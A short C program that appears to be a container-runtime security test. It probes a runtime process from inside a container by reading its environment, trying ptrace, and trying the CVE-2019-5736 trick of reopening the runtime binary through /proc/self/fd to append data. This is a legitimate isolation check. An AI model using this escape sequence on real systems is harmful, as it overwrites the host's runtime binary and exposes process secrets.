/* peek-runtime: run inside a container, try what an attacker would against a runtime process
 * (pid argv[1]): open /proc/PID/exe (O_PATH), read /proc/PID/environ, PTRACE_ATTACH.  With the
 * exe fd, wait for the file named argv[2] to appear, then try to reopen the runtime's binary
 * for writing through /proc/self/fd and append to it (CVE-2019-5736).  Prints one line per
 * attempt: "exe: denied|OPEN", "environ: ...", "ptrace: ...", "write: ...". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

int main (int argc, char **argv)
{
  char path[64], buf[256];
  int pid, fd, efd, i;
  ssize_t n = -1;

  if (argc != 3)
    return 2;
  pid = atoi (argv[1]);
  snprintf (path, sizeof (path), "/proc/%d/environ", pid);
  fd = open (path, O_RDONLY);
  if (fd >= 0 && (n = read (fd, buf, sizeof (buf))) > 0)
    printf ("environ: READ %zd bytes\n", n);
  else if (fd >= 0 && n == 0)
    printf ("environ: denied (empty)\n");
  else
    printf ("environ: denied (%s)\n", strerror (errno));
  if (fd >= 0)
    close (fd);
  if (ptrace (PTRACE_ATTACH, pid, 0, 0) == 0)
    {
      printf ("ptrace: ATTACHED\n");
      waitpid (pid, NULL, __WALL);
      ptrace (PTRACE_DETACH, pid, 0, 0);
    }
  else
    printf ("ptrace: denied (%s)\n", strerror (errno));
  snprintf (path, sizeof (path), "/proc/%d/exe", pid);
  efd = open (path, O_PATH);
  if (efd < 0)
    {
      printf ("exe: denied (%s)\n", strerror (errno));
      return 0;
    }
  printf ("exe: OPEN\n");
  fflush (stdout);
  for (i = 0; i < 200 && access (argv[2], F_OK) != 0; i++)
    usleep (50000);
  snprintf (path, sizeof (path), "/proc/self/fd/%d", efd);
  for (i = 0; i < 100; i++)
    {
      fd = open (path, O_WRONLY | O_APPEND);
      if (fd >= 0 || errno != ETXTBSY)
        break;
      usleep (50000);
    }
  if (fd >= 0 && write (fd, "PWNED", 5) == 5)
    printf ("write: OVERWROTE the runtime binary\n");
  else
    printf ("write: failed (%s)\n", strerror (errno));
  return 0;
}
